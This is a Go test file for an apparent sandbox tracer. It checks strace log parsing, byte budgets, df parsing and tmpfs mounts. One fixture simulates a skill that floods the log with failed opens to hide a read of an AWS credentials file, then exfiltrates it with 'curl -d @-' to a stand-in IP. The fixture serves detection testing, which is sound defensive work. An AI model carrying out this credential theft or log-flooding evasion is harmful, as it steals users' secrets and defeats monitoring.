package orchestrator

import (
	"archive/tar"
	"bytes"
	"fmt"
	"log/slog"
	"strings"
	"testing"

	"github.com/sandboxctl/sandboxctl/trace"
	"github.com/sandboxctl/sandboxctl/traceplan"
)

// deepLog is an strace log of a process nesting n directories, working
// relative to each.
func deepLog(n int) string {
	var b strings.Builder
	for i := range n {
		fmt.Fprintf(&b, "100 %d.%06d mkdir(\"d\", 0777) = 0\n", 1000+i/1000, i%1000)
		fmt.Fprintf(&b, "100 %d.%06d chdir(\"d\") = 0\n", 1000+i/1000, i%1000)
	}
	return b.String()
}

// TestParseCallLogsBudgets: a deep-nesting log gives events whose paths are
// cut to trace.MaxPath and a path budget event naming the longest; a byte
// budget for the timeline drops what is past it, with a budget event and
// an Incomplete notice.
func TestParseCallLogsBudgets(t *testing.T) {
	const depth = 3000
	tarball := makeTar(t, []tarEntry{{name: "calls/t001.log", typ: tar.TypeReg, body: deepLog(depth)}})
	events, err := parseCallLogs(bytes.NewReader(tarball), logParams{Cwd: "/tmp", Budget: 0}, slog.New(slog.DiscardHandler))
	if err != nil {
		t.Fatal(err)
	}
	var mkdirs int
	var size int64
	var budgets []*trace.Budget
	for _, e := range events {
		size += trace.Size(e)
		switch d := e.Data.(type) {
		case *trace.File:
			mkdirs++
			if len(d.Path) > trace.MaxPath {
				t.Fatalf("path of %d bytes in an event", len(d.Path))
			}
		case *trace.Budget:
			budgets = append(budgets, d)
		}
	}
	if mkdirs != depth || len(budgets) != 1 || budgets[0].Name != "path" || budgets[0].Used != int64(len("/tmp")+2*depth) {
		t.Fatalf("%d mkdir events, budgets %+v", mkdirs, budgets)
	}
	if size > int64(depth)*(trace.MaxPath+512) {
		t.Errorf("events hold %d bytes for %d mkdirs", size, depth)
	}

	// The same log within a 1 MiB budget: events past it are counted.
	events, _ = parseCallLogs(bytes.NewReader(tarball), logParams{Cwd: "/tmp", Budget: 1 << 20}, slog.New(slog.DiscardHandler))
	var kept int
	var notice *trace.Notice
	budgets = nil
	size = 0
	for _, e := range events {
		switch d := e.Data.(type) {
		case *trace.File:
			kept++
			size += trace.Size(e)
		case *trace.Budget:
			budgets = append(budgets, d)
		case *trace.Notice:
			notice = d
		}
	}
	if size > 1<<20 || kept == 0 || kept >= depth {
		t.Errorf("kept %d events of %d bytes within a 1 MiB budget", kept, size)
	}
	if len(budgets) != 2 || budgets[1].Name != "timeline" || budgets[1].Dropped != int64(depth-kept) {
		t.Errorf("budgets %+v, want path and timeline with %d dropped", budgets, depth-kept)
	}
	if notice == nil || !notice.Incomplete {
		t.Errorf("notice %+v, want an Incomplete one", notice)
	}
}

// TestParseFull: df's lines (untrusted) name the places at their size; a
// place with room left, a malformed line or a header is not full.
func TestParseFull(t *testing.T) {
	out := `Filesystem     1-blocks      Used Available Capacity Mounted on
tmpfs         268435456 268435456         0     100% /tmp
tmpfs         134217728  10000000 124217728       8% /var/tmp
tmpfs         536870912 520000000  16870912      97% /Users
tmpfs           5242880   5160960     81920      99% /run/lock
tmpfs           5242880   5160960     81920      99% /run/lock
garbage line
tmpfs            notanumber 1 1 1% /home
tmpfs         536870912 536000000    870912     100% /home
`
	got := parseFull(out)
	want := []string{"/tmp: 268435456 of 268435456 bytes", "/run/lock: 5160960 of 5242880 bytes", "/home: 536000000 of 536870912 bytes"}
	if strings.Join(got, "|") != strings.Join(want, "|") {
		t.Errorf("parseFull = %q, want %q", got, want)
	}
}

// TestUserTmpfsSized: every place of userPlaces but the engine's /dev/shm
// is a tmpfs of the spec with a size, and the runtime folder is the
// user's.
func TestUserTmpfsSized(t *testing.T) {
	for _, home := range []string{"/home/ann", "/Users/ann"} {
		m := userTmpfs(traceplan.DefaultLimits(), home)
		for _, p := range userPlaces(home) {
			if p == "/dev/shm" {
				continue
			}
			if !strings.Contains(m[p], ",size=") {
				t.Errorf("%s: %s is not a tmpfs with a size: %q", home, p, m[p])
			}
		}
	}
	if o := userTmpfs(traceplan.DefaultLimits(), "/home/ann")[RuntimeDir]; !strings.Contains(o, fmt.Sprintf("uid=%d", UserUID)) || RuntimeDir != fmt.Sprintf("/run/user/%d", UserUID) {
		t.Errorf("runtime folder %s mounted %q", RuntimeDir, o)
	}
}

// floodLog is an strace log of n failing opens with long paths, then a
// read of cred, a connect and the exec of curl: what a skill that floods
// the log before its decisive read writes.
func floodLog(n int, cred string) string {
	var b strings.Builder
	long := strings.Repeat("x", 400)
	for i := range n {
		fmt.Fprintf(&b, "100 %d.%06d openat(AT_FDCWD, \"/tmp/%s/%d\", O_RDONLY) = -1 ENOENT (No such file or directory)\n", 1000+i/1000000, i%1000000, long, i)
	}
	fmt.Fprintf(&b, "100 2000.000001 openat(AT_FDCWD, %q, O_RDONLY) = 3<%s>\n", cred, cred)
	b.WriteString("100 2000.000002 connect(4<TCP:[77]>, {sa_family=AF_INET, sin_port=htons(443), sin_addr=inet_addr(\"203.0.113.7\")}, 16) = 0\n")
	b.WriteString("100 2000.000003 execve(\"/usr/bin/curl\", [\"curl\", \"-d\", \"@-\", \"https://203.0.113.7/\"], 0x7ffd /* 3 vars */) = 0\n")
	return b.String()
}

// TestParseCallLogsFlood (issue 30, item 2): a flood of failing opens that
// alone is larger than the timeline's budget spends only the failed
// calls' share of it; the later read of a planted file, the connect and
// the exec are all kept, and the flood is a budget event that summarises
// rather than an incomplete notice. A read of a file that is not planted
// after the flood stays within the ordinary budget, which the flood did
// not spend.
func TestParseCallLogsFlood(t *testing.T) {
	const n, budget = 20000, 4 << 20 // 20,000 opens of ~420 bytes: about twice the budget
	cred := "/home/jdoe/.aws/credentials"
	tarball := makeTar(t, []tarEntry{
		{name: "calls/t001.log", typ: tar.TypeReg, body: floodLog(n, cred)},
		{name: "calls/t002.log", typ: tar.TypeReg, body: "200 3000.000001 openat(AT_FDCWD, \"/home/jdoe/notes.txt\", O_RDONLY) = 3</home/jdoe/notes.txt>\n"},
	})
	events, err := parseCallLogs(bytes.NewReader(tarball), logParams{Cwd: "/tmp", Budget: budget, Keep: map[string]bool{cred: true}}, slog.New(slog.DiscardHandler))
	if err != nil {
		t.Fatal(err)
	}
	var credRead, connect, exec, notes, failed bool
	var failedKept int
	for _, e := range events {
		switch d := e.Data.(type) {
		case *trace.File:
			switch {
			case d.Path == cred:
				credRead = true
			case d.Path == "/home/jdoe/notes.txt":
				notes = true
			case d.Errno != "":
				failedKept++
			}
		case *trace.Net:
			connect = true
		case *trace.Exec:
			exec = true
		case *trace.Budget:
			if d.Name == "failed-calls" && d.Summarised > 0 {
				failed = true
			}
		case *trace.Notice:
			if d.Incomplete {
				t.Errorf("incomplete notice for a summarised flood: %s", d.Message)
			}
		}
	}
	if !credRead || !connect || !exec || !notes {
		t.Errorf("after the flood: planted read kept %t, connect %t, exec %t, ordinary read %t", credRead, connect, exec, notes)
	}
	if !failed || failedKept == 0 || failedKept >= n {
		t.Errorf("flood: %d of %d failed opens kept, summarised %t", failedKept, n, failed)
	}
}
